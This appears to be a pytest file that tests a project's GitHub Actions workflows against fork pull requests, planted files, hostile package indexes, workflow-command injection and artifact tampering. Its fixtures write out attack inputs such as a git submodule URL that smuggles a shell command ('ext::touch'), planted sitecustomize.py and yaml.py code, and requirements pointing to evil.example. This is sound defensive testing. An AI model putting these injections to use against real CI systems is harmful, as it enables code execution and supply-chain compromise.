"""Attacks on the workflows by text, file names and packages, and two runs at once.

The sandbox refuses each step whose log has a command that our steps don't use, such as `##[add-mask]`.
"""
# ruff: noqa: F811 - the names of fixtures

import json
import re
import runpy
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import CHECKOUT
from hosting import sandbox as runner
from hosting.sandbox import Sandbox, Step
from hosting.test_root import LINKS, STRANGER, committed, proposed, publish, root, sandbox, schedule  # noqa: F401

TEMPLATES = CHECKOUT / "templates/hosting/github/.github"


@pytest.mark.slow
@pytest.mark.parametrize("name", ["looms-002", "##[add-mask]a", "x\n::add-mask::a"])
def test_a_pull_request_gives_the_runner_no_commands(sandbox: Sandbox, root: Path, name: str) -> None:
    topics = '---\nid: looms-002\ntitle: Looms\ntopics: ["##[stop-commands]a", "::add-mask::a"]\n---\n'
    (root / f"episodes/looms/{name}.md").write_text(topics, "utf-8")
    done = proposed(sandbox, root, STRANGER)
    assert not done.ok and ("# # [" in done.log) == ("\n" not in name), done.log


@pytest.mark.slow
def test_files_of_a_stranger_are_not_run(sandbox: Sandbox, root: Path) -> None:
    """Settings, filters of git, submodules, modules and lists of packages of a fork are not used."""
    attack = "import pathlib; pathlib.Path.home().joinpath('pwned').touch()\n"
    for path in ("yaml.py", "sitecustomize.py", "mlguide_site/__init__.py", "episodes/yaml.py", "pages/conftest.py"):
        (root / path).parent.mkdir(exist_ok=True)
        (root / path).write_text(attack, "utf-8")
    files = {
        ".gitattributes": "* filter=evil diff=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::touch%20pwned\n',
        ".lfsconfig": "[lfs]\n\turl = https://evil.example/\n",
        "requirements.txt": "--index-url https://evil.example/\nevil\n",
        "base.yml": "hooks: [yaml.py]\ntheme: {name: material, custom_dir: episodes}\n",
        "templates/_episode_facts.md.jinja": "{{ 1 / 0 }}\n",
    }
    for path, text in files.items():
        (root / path).parent.mkdir(exist_ok=True)
        (root / path).write_text(text, "utf-8")
    settings = root / "mkdocs.yml"
    settings.write_text("INHERIT: base.yml\n" + settings.read_text("utf-8"), "utf-8")
    for path in ("episodes/yaml.py", "pages/conftest.py"):
        assert not proposed(sandbox, root, STRANGER).ok  # kinds of files that are not content
        (root / path).unlink()
    done = proposed(sandbox, root, STRANGER)
    assert done.ok, done.log
    assert not list(sandbox.folder.rglob("pwned")) and "evil" not in sandbox.installs.read_text("utf-8")


@pytest.mark.slow
def test_a_job_that_may_write_runs_no_packages_of_the_root(sandbox: Sandbox, root: Path) -> None:
    (root / "requirements.txt").write_text("mlguide @ git+https://x.example\nmkdocs-macros\n", "utf-8")
    sandbox.push(committed(root), "Use a plugin")
    for run, count in ((publish, 3), (schedule, 2)):
        sandbox.installs.write_text("", "utf-8")
        assert run(sandbox).ok
        assert len(sandbox.installs.read_text("utf-8").splitlines()) == count


@pytest.mark.slow
def test_an_artifact_replaces_no_file_of_the_checkout(
    sandbox: Sandbox, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The link checker is downloaded. It could add files to the artifact for the job that may write."""

    def upload(scope: runner._Scope, record: Step) -> bool:
        assert runner._upload(scope, record)
        (scope.runner.result.artifacts["links"] / "mkdocs.yml").write_text("hijacked", "utf-8")
        return True

    monkeypatch.setitem(runner.ACTIONS, "actions/upload-artifact", upload)  # type: ignore[arg-type]
    sandbox.broken_links = ["https://a.example/"]
    assert schedule(sandbox, LINKS).ok and "https://a.example/" in sandbox.host.issues[1]["body"]
    (found,) = sandbox.folder.glob("run-*/issue/work/mkdocs.yml")
    assert found.read_text("utf-8") == (root / "mkdocs.yml").read_text("utf-8")


def test_a_push_to_another_branch_cancels_no_publication() -> None:
    """The host cancels the waiting run of a group when another run of the group is added."""
    found = yaml.safe_load((TEMPLATES / "workflows/publish.yml").read_text("utf-8"))
    assert found[True]["push"]["branches"] == ["**"] and "${{ github.ref }}" in found["concurrency"]["group"]


@pytest.mark.slow
def test_a_branch_with_special_characters_is_found_again(sandbox: Sandbox, root: Path) -> None:
    (root / "episodes/looms/looms-003.md").unlink()
    (root / ".mlguide/imported/looms-003.json").unlink()
    sandbox.push(committed(root), "Remove an episode", "c++&x")
    for _ in range(2):
        done = sandbox.run(".github/workflows/sync.yml", "workflow_dispatch", {}, "refs/heads/c++&x")
        assert done.ok, done.log
    assert [one["base"]["ref"] for one in sandbox.host.pulls.values()] == ["c++&x"]


def test_the_end_of_a_long_report_is_code(tmp_path: Path) -> None:
    """Text is cut between lines. In the middle of a line, its start would be a link or a mention."""
    names = ("new", "changed", "absent", "new_series", "problems", "assets", "cut", "new_entries")
    row = "@ada [x](https://evil.example) Closes #1 GH-1 \u00e9" + "\u00e9" * 200
    report = {**{name: [f"{number}{row}" for number in range(50)] for name in names}, "kept": {}, "conflicts": []}
    files = {"import.json": json.dumps([report]), "check.json": "", "problems.txt": "", "knowledge/series.yml": ""}
    for path, text in files.items():
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_text(text, "utf-8")
    script = [sys.executable, "-I", str(CHECKOUT / "action/import_report.py"), str(tmp_path)]
    text = subprocess.run(script, cwd=tmp_path, capture_output=True, check=True).stdout.decode()
    assert 50_000 < len(text.encode()) < 60_200 and text.count("https://evil.example") > 50
    assert not re.search("evil", re.sub(r"`[^`\n]+`", "", text))
    assert "@ada" not in text and "#1" not in text and "Closes #" not in text


def test_the_report_of_an_import_reads_only_the_notes_that_it_lists() -> None:
    listed, read = runpy.run_path(str(CHECKOUT / "action/import_report.py"))["listed"], list[str]()
    lines = listed("New episodes", [f"looms-{number}" for number in range(200)], lambda one: read.append(one) or one)
    assert lines[0] == "### New episodes (200)" and "- and 150 more" in lines and len(read) == 50


def test_every_action_is_pinned_and_no_checkout_keeps_the_token() -> None:
    paths = [*(CHECKOUT / ".github/workflows").glob("*.yml"), *(TEMPLATES / "workflows").glob("*.yml")]
    assert len(paths) > 8
    for path in [*paths, CHECKOUT / "action.yml"]:
        text = path.read_text("utf-8")
        for used in re.findall(r"uses: (\S+)", text):
            assert used in ("./", "PROGRAM_ACTION") or re.fullmatch(r"[\w./-]+@[0-9a-f]{40}", used), (path, used)
        assert text.count("actions/checkout@") == text.count("persist-credentials: false")
        assert "pull_request_target" not in text and "workflow_run" not in text
        assert not re.search(r"run: .*\$\{\{(?! matrix\.)", text)
